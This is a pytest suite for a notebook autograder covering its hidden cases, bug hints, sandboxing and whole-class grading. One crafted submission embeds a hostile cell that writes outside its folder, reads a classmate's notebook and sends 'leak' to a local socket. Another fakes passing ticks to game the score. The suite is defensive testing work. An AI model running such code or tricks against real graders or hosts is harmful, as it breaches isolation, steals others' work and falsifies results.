"""The grader (helpers.grading): hidden cases, judging, reading submissions, and a whole crafted class.

The fast tests run the learner-side evaluation (``runner.evaluate``) in this process on functions written here —
the solution's and each seed bug's — and judge what it saved, as the grader does after a sandboxed run. The slow
test grades a class of notebooks built from the project's solution and student copy, each in its sandbox.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import re
import socket
import threading
from pathlib import Path

import cv2
import numpy as np
import pytest
from test_exercises import (
    good_bbox,
    good_cam,
    good_grad_cam,
    good_iou,
    good_overlay,
    make_bbox,
    make_cam,
    make_grad_cam,
)

from helpers import exercises, grading
from helpers.grading import cases, runner, sandbox

ROOT = Path(__file__).resolve().parents[1]
SOLUTION = ROOT / "notebooks" / "solutions" / "06_project_cam_iou.ipynb"
STUDENT = ROOT / "notebooks" / "06_project_cam_iou.ipynb"
keras = pytest.importorskip("keras")
tf = pytest.importorskip("tensorflow")


# ---------------------------------------------------------------- the solution's functions, and the seed bugs
# (the learner implementations of tests/test_exercises.py: correct variants and each typical mistake)
SOLUTION_FUNCTIONS = {
    "generate_cam": good_cam,
    "visualize_cam_on_image": good_overlay,
    "generate_grad_cam": good_grad_cam,
    "get_bbox": good_bbox,
    "get_iou": good_iou,
}


def iou_without(**mistake):
    return lambda a, b: good_iou(a, b, **mistake)


def graded(tmp_path, **replace):
    """Evaluate every task as the sandboxed runner does, then judge: (points, detail)."""
    work = tmp_path / "work"
    (work / "results").mkdir(parents=True)
    for task, fn in {**SOLUTION_FUNCTIONS, **replace}.items():
        runner.evaluate(task, fn, work / "results")
    return grading.judge(work, {})


def hints(detail, task):
    return " | ".join(h for _, ok, h in detail[task]["cases"] if not ok)


def test_the_solution_earns_every_point(tmp_path):
    points, detail = graded(tmp_path)
    assert points == cases.POINTS, {t: hints(detail, t) for t in cases.TASKS}


@pytest.mark.parametrize(
    ("task", "fn", "hint"),
    [
        ("get_bbox", make_bbox(pick="first"), "contours[0]"),
        ("get_bbox", make_bbox(swap=True), "coordinates are swapped"),
        ("get_bbox", make_bbox(absolute=True), "relative to the map's maximum"),
        ("generate_grad_cam", make_grad_cam(score_of="softmax"), "softmax *probability*"),
        ("get_iou", iou_without(clamp=False), "clamp its height and width at 0"),
        ("get_iou", iou_without(guard=False), "the union is 0"),
    ],
    ids=["contours0", "swapped", "absolute-threshold", "softmax", "no-clamp", "zero-union"],
)
def test_each_seed_bug_loses_exactly_its_task_with_its_hint(tmp_path, task, fn, hint):
    points, detail = graded(tmp_path, **{task: fn})
    assert points[task] == 0 and hint in hints(detail, task)
    assert {t: p for t, p in points.items() if t != task} == {t: cases.POINTS[t] for t in cases.TASKS if t != task}


def test_mistakes_of_the_other_tasks_are_named(tmp_path):
    def bgr(image, cam_image, alpha=0.4):
        return good_overlay(image, cam_image, alpha)[..., ::-1].copy()

    def in_place(cam_image, score_thresh=0.5):
        box = good_bbox(cam_image, score_thresh)
        cam_image[...] = 0
        return box

    points, detail = graded(
        tmp_path, generate_cam=make_cam(label_shift=1), visualize_cam_on_image=bgr, get_bbox=in_place
    )
    assert points["generate_cam"] == 0 and "not the item's class" in hints(detail, "generate_cam")
    assert points["visualize_cam_on_image"] == 0 and "BGR" in hints(detail, "visualize_cam_on_image")
    assert points["get_bbox"] == 0 and "modified an input" in hints(detail, "get_bbox")


def test_todo_raise_and_hang_are_failures_not_crashes(tmp_path, monkeypatch):
    monkeypatch.setattr(runner, "CASE_SECONDS", 1)
    import signal

    signal.signal(signal.SIGALRM, runner._on_alarm)

    def todo(*args):
        raise NotImplementedError()

    def hang(a, b):
        while True:
            pass

    def raises(*args):
        raise KeyError("boom")

    points, detail = graded(tmp_path, generate_cam=todo, get_iou=hang, get_bbox=raises)
    assert points["generate_cam"] == 0 and "not implemented" in detail["generate_cam"]["summary"]
    assert points["get_iou"] == 0 and "did not return within 1 s" in hints(detail, "get_iou")
    assert points["get_bbox"] == 0 and "raised KeyError" in hints(detail, "get_bbox")
    assert points["get_iou"] == 0 and points["generate_grad_cam"] == 1


def test_missing_results_and_garbage_files_give_zero_with_a_reason(tmp_path):
    work = tmp_path / "w"
    (work / "results").mkdir(parents=True)
    (work / "results" / "get_iou.json").write_text("{not json")
    (work / "results" / "get_bbox.json").write_text(json.dumps([{"status": "ok"}] * 3))
    (work / "results" / "get_bbox.npz").write_bytes(b"garbage")
    (work / "results" / "generate_cam.json").symlink_to("/etc/hostname")  # never followed
    points, detail = grading.judge(work, {})
    assert sum(points.values()) == 0
    assert "no function named get_iou" in detail["get_iou"]["summary"]
    assert "no result was saved" in hints(detail, "get_bbox")


def test_hidden_maps_catch_contours_first_and_last_in_every_retrieval_mode():
    for mode in exercises.RETRIEVAL_MODES:
        positions = []
        for case in cases.all_cases()["get_bbox"]:
            m, thresh = case.args()
            if m.max() <= 0:
                continue
            contours, _ = cv2.findContours((m >= thresh * m.max()).astype(np.uint8), getattr(cv2, mode), 2)
            positions.append((int(np.argmax([cv2.contourArea(c) for c in contours])), len(contours)))
        assert any(i > 0 for i, _ in positions) and any(i < n - 1 for i, n in positions), (mode, positions)


def test_hidden_cases_differ_from_the_check_cells():
    hidden = {c.args()[1]["image"].shape[:2] for c in cases.all_cases()["generate_cam"]}
    shown = {it["image"].shape[:2] for it in exercises._items()}
    assert not hidden & shown
    assert cases.hidden_model().input_shape[1:3] != exercises.tiny_cam_model().input_shape[1:3]
    shown_maps = [m for _, m in exercises.bbox_maps()]
    assert not any(
        c.args()[0].shape == m.shape and np.array_equal(c.args()[0], m) for c in cases.all_cases()["get_bbox"]
        for m in shown_maps
    )  # fmt: skip


# ---------------------------------------------------------------- reading a submission, statically
def notebook(*sources, tag_first=True) -> bytes:
    import nbformat

    cells = [nbformat.v4.new_code_cell(s) for s in sources]
    if tag_first:
        cells[0].metadata["tags"] = ["parameters"]
    return nbformat.writes(nbformat.v4.new_notebook(cells=cells)).encode()


def test_parameters_are_injected_after_the_tagged_cell_or_first():
    cells, notes = grading.read_cells(notebook("N_VAL = 40", "print(N_VAL)"), {"N_VAL": 4})
    assert cells[0] == "N_VAL = 40" and "N_VAL = 4\n" in cells[1] and cells[2] == "print(N_VAL)" and not notes
    cells, notes = grading.read_cells(notebook("N_VAL = 40", tag_first=False), {"N_VAL": 4})
    assert "N_VAL = 4\n" in cells[0] and "parameters" in notes[0]


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"not json", "not a Jupyter notebook"),
        (b"\xff\xfe\x00", "not a text file"),
        (b'{"cells": []}', "no code cells"),
    ],
)
def test_unreadable_files_are_invalid_notebooks(data, reason):
    with pytest.raises(grading.InvalidNotebook, match=reason):
        grading.read_cells(data, {})


def test_grading_parameters_follow_the_notebook():
    nb = json.loads(SOLUTION.read_text())
    params = next(c for c in nb["cells"] if "parameters" in c["metadata"].get("tags", []))
    ns: dict = {}
    exec("".join(params["source"]), ns)  # noqa: S102 - our own notebook's parameters cell
    assert set(grading.PARAMETERS) <= set(ns)
    changed = {k for k in grading.PARAMETERS if grading.PARAMETERS[k] != ns[k]}
    assert changed == {"N_VAL", "N_ITEMS"}  # the rest must load notebook 04's checkpoint, as the notebook does


def test_forbidden_modules_inside_task_functions_are_found_statically():
    cells = [
        "%matplotlib inline\nfrom helpers import cam as c\nfrom helpers import exercises\nimport helpers.boxes",
        "def generate_cam(model, item, layer_name='f'):\n    x = exercises.to_input(model, item['image'])\n"
        "    return c.cam(model, x)[0]",
        "def _colour(h):\n    return exercises.overlay_reference(h, h, 1)\n"
        "def visualize_cam_on_image(image, cam_image, alpha=0.4):\n    return _colour(cam_image)",
        "def get_bbox(m, t=0.5):\n    return helpers.boxes.heatmap_to_box(m, t)",
        "def get_iou(a, b):\n    x = exercises.to_input\n    return 0.0",
        "box = helpers.boxes.heatmap_to_box  # outside a task function: fine",
        "from helpers import boxes  # a later cell's import does not taint a local variable of the same name",
        "def generate_grad_cam(model, layer, item):\n    boxes = [1]\n    return boxes",
    ]
    found = grading.forbidden_uses(cells)
    assert found == {
        "generate_cam": "helpers.cam.cam",
        "visualize_cam_on_image": "helpers.exercises.overlay_reference",
        "get_bbox": "helpers.boxes.heatmap_to_box",
    }


def test_submissions_are_named_by_stem_and_duplicates_by_path(tmp_path):
    for rel in ["a/alice.ipynb", "b/alice.ipynb", "bob.ipynb", ".ipynb_checkpoints/bob-checkpoint.ipynb",
                "notes.txt", "out/x.ipynb"]:  # fmt: skip
        (tmp_path / rel).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / rel).write_text("{}")
    found = grading.find_submissions(tmp_path, exclude=(tmp_path / "out").resolve())
    assert [s for s, _ in found] == ["a/alice", "b/alice", "bob"]
    pages = [grading._safe(s) for s in ["a/alice", "a_alice", "b/alice", "bob", "Zoë", "Zoe"]]
    assert len(set(pages)) == len(pages) and pages[1] == "a_alice" and pages[3] == "bob"
    assert all(re.fullmatch(r"[A-Za-z0-9._-]+", p) for p in pages)


def test_bad_folders_and_options_fail_before_any_work(tmp_path):
    (tmp_path / "subs").mkdir()
    with pytest.raises(grading.GradingError, match="not a folder"):
        grading.grade(tmp_path / "missing", tmp_path / "out")
    with pytest.raises(grading.GradingError, match="would contain the submissions"):
        grading.grade(tmp_path / "subs", tmp_path)
    with pytest.raises(grading.GradingError, match="no \\*.ipynb"):
        grading.grade(tmp_path / "subs", tmp_path / "out")
    with pytest.raises(grading.GradingError, match="unknown parameter"):
        grading.grade(tmp_path / "subs", tmp_path / "out", parameters={"EPOCHS": 1})
    assert not (tmp_path / "out").exists()


def test_a_grader_fault_on_one_notebook_does_not_stop_the_class(tmp_path, monkeypatch):
    subs = tmp_path / "subs"
    subs.mkdir()
    for name in ("alice", "bob"):
        (subs / f"{name}.ipynb").write_bytes(notebook("x = 1"))
    real = grading.grade_one

    def flaky(student, *args, **kwargs):
        if student == "bob":
            raise SystemError("AST constructor recursion depth mismatch")
        return real(student, *args, **kwargs)

    monkeypatch.setattr(grading, "grade_one", flaky)
    monkeypatch.setattr(grading, "prepare", lambda parameters, echo=print: None)
    rows = grading.grade(subs, tmp_path / "out", timeout=60, echo=lambda line: None)
    assert [r["student"] for r in rows] == ["alice", "bob"] and rows[0]["status"] == "ok"
    assert rows[1]["status"].startswith("error: the grader failed on this notebook (SystemError")
    assert (tmp_path / "out" / "feedback" / "bob.html").exists()


def test_cli_refuses_bad_values_in_one_line(capsys):
    from helpers.__main__ import main

    assert main(["grade", "x", "--out", "y", "--timeout", "0"]) == 2
    assert main(["grade", "x", "--out", "y", "--param", "no-equals"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 2 and "--timeout" in err and "NAME=VALUE" in err


def test_the_watchdog_kills_a_process_tree_over_its_memory_or_time(tmp_path):
    import sys

    hog = "import time; x = bytearray(600 << 20); x[::4096] = b'x' * len(x[::4096]); time.sleep(30)"
    out = sandbox.run([sys.executable, "-c", hog], tmp_path, dict(os.environ), timeout=60, memory_bytes=300 << 20)
    assert out.killed == "memory" and out.seconds < 20
    fork = "import subprocess, sys, time; [subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(60)'])" \
           " for _ in range(3)]; time.sleep(60)"  # fmt: skip
    out = sandbox.run([sys.executable, "-c", fork], tmp_path, dict(os.environ), timeout=3, memory_bytes=4 << 30)
    assert out.killed == "timeout" and out.seconds < 10


@pytest.mark.skipif(sandbox.detect().kind != "bubblewrap", reason="needs bubblewrap")
def test_code_under_a_hidden_folder_is_mounted_back_read_only(tmp_path, monkeypatch):
    """A clone or a virtual environment under /tmp or ~ (hidden in the sandbox) must still be importable."""
    import subprocess
    import sys

    root = tmp_path / "clone"  # under /tmp, like a CI clone
    (root / "course_pkg").mkdir(parents=True)
    (root / "course_pkg" / "__init__.py").write_text("X = 42\n")
    real = sandbox._readonly_paths()
    monkeypatch.setattr(sandbox, "_readonly_paths", lambda: [*real, root])
    work = tmp_path / "work"
    work.mkdir()
    probe = "import course_pkg, pathlib; print(course_pkg.X); pathlib.Path(course_pkg.__file__).write_text('')"
    cmd, _ = sandbox.command(sandbox.detect(), work, [sys.executable, "-c", probe], hide=[tmp_path / "subs"])
    out = subprocess.run(cmd, env={**os.environ, "PYTHONPATH": str(root)}, capture_output=True, text=True, timeout=60)
    assert out.stdout.strip() == "42" and "Read-only file system" in out.stderr, out
    assert (root / "course_pkg" / "__init__.py").read_text() == "X = 42\n"


# ---------------------------------------------------------------- a whole class, end to end
def _edit(nb: dict, old: str, new: str) -> dict:
    nb = json.loads(json.dumps(nb))
    hits = 0
    for cell in nb["cells"]:
        src = "".join(cell["source"])
        if cell["cell_type"] == "code" and old in src:
            hits += 1
            cell["source"] = src.replace(old, new)
    assert hits == 1, (old, hits)  # the solution changed: update the crafted submission
    return nb


def _append(nb: dict, source: str, after: str | None = None) -> dict:
    import nbformat

    nb = json.loads(json.dumps(nb))
    cell = json.loads(nbformat.writes(nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(source)])))
    cell = cell["cells"][0]
    at = len(nb["cells"])
    if after:
        at = next(i for i, c in enumerate(nb["cells"]) if after in "".join(c["source"])) + 1
    nb["cells"].insert(at, cell)
    return nb


def _digest(folder: Path) -> str:
    h = hashlib.sha256()
    for p in sorted(folder.rglob("*")):
        h.update(str(p.relative_to(folder)).encode())
        if p.is_file():
            h.update(p.read_bytes())
    return h.hexdigest()


@pytest.mark.slow  # about 2 minutes on 2 cores: 13 notebooks, two at a time, one of them until its 60 s limit
def test_a_crafted_class_is_graded_in_one_run(tmp_path):
    iso = sandbox.detect()
    sol = json.loads(SOLUTION.read_text())
    subs = tmp_path / "submissions"
    subs.mkdir()
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.settimeout(0.5)
    port = listener.getsockname()[1]
    accepted = []

    def accept():
        for _ in range(600):
            try:
                accepted.append(listener.accept())
            except OSError:
                if getattr(listener, "_closed", False):
                    return

    threading.Thread(target=accept, daemon=True).start()
    repo_probe = ROOT / "data" / "HACKED_BY_A_SUBMISSION.txt"
    hostile = f"""
import os, pathlib, socket, sys
log = {{}}
for target in [{str(repo_probe)!r}, {str(subs / "HACKED.txt")!r}, {str(Path.home() / "HACKED_BY_A_SUBMISSION.txt")!r}]:
    try:
        pathlib.Path(target).write_text("x")
        log[target] = "written"
    except OSError as exc:
        log[target] = type(exc).__name__
try:
    log["other"] = pathlib.Path({str(subs / "correct.ipynb")!r}).read_text()[:20]
except OSError as exc:
    log["other"] = type(exc).__name__
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"leak")
    log["network"] = "connected"
except OSError as exc:
    log["network"] = type(exc).__name__
pathlib.Path("hostile.json").write_text(__import__("json").dumps(log))
print("x" * 20_000_000)
sys.exit(3)
"""
    student = json.loads(STUDENT.read_text())
    crafted = {
        "correct": sol,
        "untouched": student,
        "fake_ticks": _append(student, 'print("✔ all cases pass\\nScore: 5/5 tasks")\nexercises.RESULTS.update('
                                       'dict.fromkeys(exercises.TASKS, True))'),
        "contours_first": _edit(sol, "max(contours, key=cv2.contourArea)", "contours[0]"),
        "softmax": _edit(sol, '[model.get_layer(activation_layer).output, model.get_layer("logits").output]',
                         "[model.get_layer(activation_layer).output, model.output]"),
        "swapped": _edit(sol, "np.array([y / H, x / W, (y + bh) / H, (x + bw) / W])",
                         "np.array([x / W, y / H, (x + bw) / W, (y + bh) / H])"),
        "no_clamp": _edit(_edit(sol, "max(0.0, min(a[2], b[2]) - max(a[0], b[0]))",
                                "min(a[2], b[2]) - max(a[0], b[0])"),
                          "max(0.0, min(a[3], b[3]) - max(a[1], b[1]))", "min(a[3], b[3]) - max(a[1], b[1])"),
        "zero_union": _edit(sol, "return float(inter / union) if union > 0 else 0.0", "return float(inter / union)"),
        "hostile": _append(sol, hostile, after="exercises.check_iou(get_iou)"),
        "loop_cell": _append(sol, "while True:\n    pass", after="exercises.check_cam(generate_cam)"),
        "loop_forever": _append(sol, "while True:\n    try:\n        while True:\n            pass\n"
                                     "    except BaseException:\n        pass", after="exercises.check_grad_cam"),
        "crash": _append(sol, "import os\nos.abort()", after="exercises.check_overlay"),
    }  # fmt: skip
    for name, nb in crafted.items():
        (subs / f"{name}.ipynb").write_text(json.dumps(nb))
    (subs / "not_a_notebook.ipynb").write_bytes(b"%PDF-1.4 this is a PDF")
    before = _digest(subs)
    out = tmp_path / "out"
    lines = []
    rows = grading.grade(
        subs, out, timeout=60, cell_timeout=20, jobs=2, keep=True, echo=lines.append,
        parameters={"DATASET": "toy_cars/tiny", "HEAD_EPOCHS": 1, "FINE_TUNE_EPOCHS": 0},
    )  # fmt: skip
    listener.close()
    escaped = {p: p.exists() for p in (repo_probe, Path.home() / "HACKED_BY_A_SUBMISSION.txt")}
    for probe, written in escaped.items():  # without bubblewrap the hostile cell can write them: leave no trace
        if written:
            probe.unlink()
    by = {r["student"]: r for r in rows}
    full = sum(cases.POINTS.values())

    def lost(name):
        return {t for t in cases.TASKS if by[name][t] < cases.POINTS[t]}

    slow = json.loads((out / ".work" / "correct" / "cells.json").read_text())
    assert by["correct"]["total"] == full and by["correct"]["status"] == "ok", (by["correct"], slow)
    assert by["untouched"]["total"] == 0 and by["fake_ticks"]["total"] == 0
    assert lost("contours_first") == {"get_bbox"} and lost("swapped") == {"get_bbox"}
    assert lost("softmax") == {"generate_grad_cam"}
    assert lost("no_clamp") == {"get_iou"} and lost("zero_union") == {"get_iou"}
    assert by["loop_cell"]["total"] == full and by["loop_cell"]["status"] == "timeout"
    assert lost("loop_forever") == {"get_bbox", "get_iou"} and by["loop_forever"]["status"] == "timeout"
    assert lost("crash") == {"generate_grad_cam", "get_bbox", "get_iou"}
    assert by["crash"]["status"].startswith("error: the notebook's process ended")
    assert by["not_a_notebook"]["status"].startswith("invalid notebook:") and by["not_a_notebook"]["total"] == 0
    assert by["hostile"]["total"] == full and by["hostile"]["status"] == "ok"
    # the table, the feedback and the figure are there; rows in order; one line per submission
    with open(out / "grades.csv") as f:
        table = list(csv.DictReader(f))
    assert [r["student"] for r in table] == sorted(by) and list(table[0]) == list(grading.report.COLUMNS)
    assert all((out / "feedback" / f"{s}.html").exists() for s in by) and (out / "summary.png").stat().st_size > 10_000
    page = (out / "feedback" / "contours_first.html").read_text()
    assert "contours[0]" in page and "✘" in page
    assert sum(line.startswith("[") for line in lines) == len(by)
    # nothing outside the submission's folder changed, and it saw neither the network nor the others' files
    if iso.kind != "bubblewrap":
        pytest.skip(f"isolation {iso.kind}: the file-system and network checks need bubblewrap")
    assert _digest(subs) == before and not any(escaped.values()) and not accepted
    log = json.loads((out / ".work" / "hostile" / "hostile.json").read_text())
    assert log[str(repo_probe)] == "OSError" and log["other"] == "FileNotFoundError", log
    assert log["network"] in {"OSError", "ConnectionRefusedError"}, log
    # a second run re-grades only what changed
    (subs / "untouched.ipynb").write_text(json.dumps(_append(student, "x = 1")))
    lines.clear()
    grading.grade(subs, out, timeout=60, cell_timeout=20, echo=lines.append,
                  parameters={"DATASET": "toy_cars/tiny", "HEAD_EPOCHS": 1, "FINE_TUNE_EPOCHS": 0})  # fmt: skip
    assert [line.split(":")[0] for line in lines if line.startswith("[")] == ["[1/1] untouched"]
